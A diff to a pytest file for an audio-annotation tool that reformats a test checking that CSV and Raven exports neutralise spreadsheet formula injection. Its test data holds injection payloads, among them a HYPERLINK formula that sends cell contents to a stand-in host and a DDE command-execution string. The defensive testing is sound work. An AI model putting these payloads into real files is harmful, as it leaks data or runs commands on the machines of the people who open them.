@@ -11,8 +11,14 @@ from annotator.formats.base import AnnotationSet, Box, RecordingRef
 from annotator.formats.text import FORMULA_START, from_spreadsheet_safe, spreadsheet_safe
 
 REF = RecordingRef.from_path("site/a.wav", duration_s=60.0, samplerate=384_000)
-ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
-           "'=already quoted", "''=twice"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+2",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "'=already quoted",
+    "''=twice",
+]
 
 
 def _cells(text: str, delimiter: str) -> list[str]:
@@ -21,10 +27,16 @@ def _cells(text: str, delimiter: str) -> list[str]:
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_csv_and_raven_neutralise_formulas_and_read_them_back(attack):
-    annset = AnnotationSet(recordings=[REF], boxes=[
-        Box(REF.name, 1.0, 1.5, 20_000, 60_000, label=attack, annotator=attack, notes=attack)])
-    for written, delimiter, reader in ((csvfmt.write(annset), ",", csvfmt.read),
-                                       (raven.write(annset), "\t", raven.read)):
+    annset = AnnotationSet(
+        recordings=[REF],
+        boxes=[
+            Box(REF.name, 1.0, 1.5, 20_000, 60_000, label=attack, annotator=attack, notes=attack)
+        ],
+    )
+    for written, delimiter, reader in (
+        (csvfmt.write(annset), ",", csvfmt.read),
+        (raven.write(annset), "\t", raven.read),
+    ):
         for cell in _cells(written, delimiter):
             assert not cell.startswith(FORMULA_START) or _number(cell), (cell, written)
         (box,) = reader(written, recording=REF).boxes
